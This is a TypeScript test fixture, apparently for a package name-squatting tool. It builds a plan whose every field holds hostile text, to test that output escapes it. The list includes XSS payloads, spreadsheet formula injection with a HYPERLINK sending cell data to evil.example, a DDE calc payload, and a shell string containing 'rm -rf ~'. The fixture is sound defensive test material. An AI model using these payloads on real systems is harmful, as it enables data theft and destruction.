import type {NormalizedName} from '../../src/names/normalized-name.ts'
import type {Plan} from '../../src/plan/types.ts'
import {entry, plan} from './sample-plan.ts'

/** Text that is something else than text in at least one of HTML, scripts, templates, Markdown, CSV and a shell. */
export const HOSTILE = [
  '<script>document.title="owned"</script>',
  '</script><img src=x onerror="document.title=\'owned\'">',
  '"><svg onload=document.title="owned">',
  '{{constructor.constructor "return process"}}',
  '{{{data}}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay text
  '${7*7} <%= 7*7 %>',
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '\t=1+1',
  '| a | b |\n| - | - |\n[x](javascript:alert(1)) ![y](http://evil.example/y.png) `code` ``two`` @pypi #1',
  '"; rm -rf ~; $(touch owned) `touch owned` \'',
  'line\u2028separator \u202eevil\u001b[2J\u0007',
  '__proto__',
]

/** A plan whose every text is hostile, as if the file had been written by an attacker. */
export function hostilePlan(): Plan {
  const entries = HOSTILE.map((text, i) =>
    entry('x', {
      name: text as NormalizedName,
      squats: [{target: text, seed: text, technique: text, detail: text, likelihood: 0.01}],
      alerts: [text],
      note: text,
      version: text,
      date: i % 2 ? text : '2026-11-23',
      route: i % 5 === 4 ? 'ask' : 'register',
      verdict: i % 3 ? 'open' : 'refused',
      refusal: i % 3 ? null : {reason: 'similar', collidesWith: text as NormalizedName},
      sdist: {file: text, sha256: text},
      progress: {updated: '2026-11-23T09:15:00Z', steps: {}, answer: {id: 'other', text}},
    }),
  )
  const [first] = plan([]).targets
  return plan(entries, {
    index: {source: HOSTILE[0]!, asOf: HOSTILE[1]!, names: 1, serial: null, sha256: HOSTILE[2]!},
    model: {id: HOSTILE[3]!},
    targets: HOSTILE.map((name) => ({...first!, name, exposure: 1 / HOSTILE.length})),
  })
}
